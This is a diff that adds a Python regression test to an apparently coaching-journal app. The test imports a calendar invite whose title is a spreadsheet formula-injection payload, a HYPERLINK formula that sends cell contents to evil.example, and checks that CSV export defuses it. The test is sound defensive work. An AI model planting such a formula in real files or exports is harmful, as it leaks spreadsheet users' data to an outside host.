@@ -224,3 +224,36 @@ def test_no_csv_cell_starts_a_formula(journal, title):
     for cell in cells:
         assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
     assert any(cell == "'" + title.strip() or cell == "'" + title for cell in cells)
+
+
+def test_a_formula_invited_from_outside_never_reaches_the_coach_as_one(journal, tmp_path):
+    """Issue 16's own example, end to end: a stranger's invite, imported, reflected on,
+    exported as CSV (private and with real names)."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    invite = tmp_path / "invite.ics"
+    invite.write_bytes(
+        (
+            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:evil-1\r\n"
+            "DTSTART:20261103T090000Z\r\nDTEND:20261103T100000Z\r\n"
+            f"SUMMARY:{formula}\r\nORGANIZER:mailto:piet@kestrel.co.uk\r\n"
+            "ATTENDEE:mailto:piet@kestrel.co.uk\r\nATTENDEE:mailto:anna@adviesbureau.nl\r\n"
+            "END:VEVENT\r\nEND:VCALENDAR\r\n"
+        ).encode()
+    )
+    journal.calendar.import_file(
+        invite, datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC)
+    )
+    [summary] = journal.meeting_page(0, 10)
+    meeting = journal.meeting(summary.id)
+    assert meeting.title == formula  # the title is kept as written ...
+    journal.save(
+        MeetingInput(meeting.client.name, meeting.title, meeting.start, 60),
+        ReflectionInput({"listening.1": 3}),
+        meeting_id=meeting.id,
+    )
+    for real_names in (False, True):
+        choice = ExportChoice(*NOVEMBER, real_names=real_names)
+        data = export_formats.to_csv(export_bundle.build(journal, choice), journal.bank, "en")
+        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+        assert "'" + formula in cells  # ... and leaves as text
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
